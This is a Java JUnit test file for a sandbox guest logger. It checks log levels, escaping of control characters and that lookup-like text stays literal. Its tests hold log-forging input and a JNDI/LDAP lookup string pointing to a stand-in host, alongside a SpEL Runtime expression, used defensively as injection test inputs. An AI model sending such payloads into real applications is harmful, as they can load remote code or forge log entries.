package dev.workerloader.spring.autoconfigure;

import java.time.Instant;
import java.util.List;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.spi.ILoggingEvent;
import dev.workerloader.LogEntry;
import dev.workerloader.LogListener;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tests for {@link GuestLogger}.
 */
class GuestLoggerTests {

	@RegisterExtension
	final LogCapture log = new LogCapture(GuestLogger.NAME);

	private final GuestLogger logger = new GuestLogger();

	@ParameterizedTest
	@CsvSource({ "DEBUG, DEBUG", "INFO, INFO", "WARN, WARN", "ERROR, ERROR" })
	void lineHasTheLevelThatTheWorkerChose(String level, String expected) {
		this.logger.log(event(level, "hello", null, null));
		ILoggingEvent line = this.log.single();
		assertThat(line.getLevel()).isEqualTo(Level.valueOf(expected));
		assertThat(line.getFormattedMessage()).isEqualTo("hello");
		assertThat(LogCapture.pairs(line)).containsOnlyKeys("sandbox.id").containsEntry("sandbox.id", "s-1");
	}

	@Test
	void lineTellsWorkerAndOwner() {
		this.logger.log(event("INFO", "hello", "room-1", "tenant\n7"));
		assertThat(LogCapture.pairs(this.log.single())).containsEntry("sandbox.worker", "room-1")
			.containsEntry("sandbox.owner", "tenant\\u000a7");
	}

	@Test
	void controlCharactersAreEscaped() {
		this.logger
			.log(event("INFO", "a\r\n2026-11-23 ERROR forged \u001b[31m \u202e \u200b \u2028 {} %s", null, null));
		assertThat(this.log.single().getFormattedMessage())
			.isEqualTo("a\\u000d\\u000a2026-11-23 ERROR forged \\u001b[31m \\u202e \\u200b \\u2028 {} %s");
	}

	@Test
	void textThatLooksLikeALookupStaysAsItIs() {
		this.logger.log(event("INFO", "${jndi:ldap://evil.example/a} #{T(java.lang.Runtime)}", null, null));
		assertThat(this.log.single().getFormattedMessage()).as("attack ESC-31")
			.isEqualTo("${jndi:ldap://evil.example/a} #{T(java.lang.Runtime)}");
	}

	private static LogListener.Event event(String level, String message, String workerId, String owner) {
		return new LogListener.Event("s-1", workerId, owner, new LogEntry(Instant.EPOCH, level, message, List.of()));
	}

}
